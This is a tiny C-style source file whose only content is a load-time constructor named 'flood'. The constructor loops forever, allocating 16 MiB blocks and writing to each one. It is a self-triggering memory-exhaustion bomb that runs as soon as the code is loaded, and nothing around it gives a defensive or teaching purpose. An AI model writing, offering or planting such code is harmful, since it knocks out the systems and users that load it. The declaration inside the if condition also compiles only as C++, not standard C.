#include <stdlib.h>
#include <string.h>
__attribute__((constructor)) static void flood(void) {
    for (;;)
        if (void *block = malloc(1 << 24))
            memset(block, 1, 1 << 24);
}
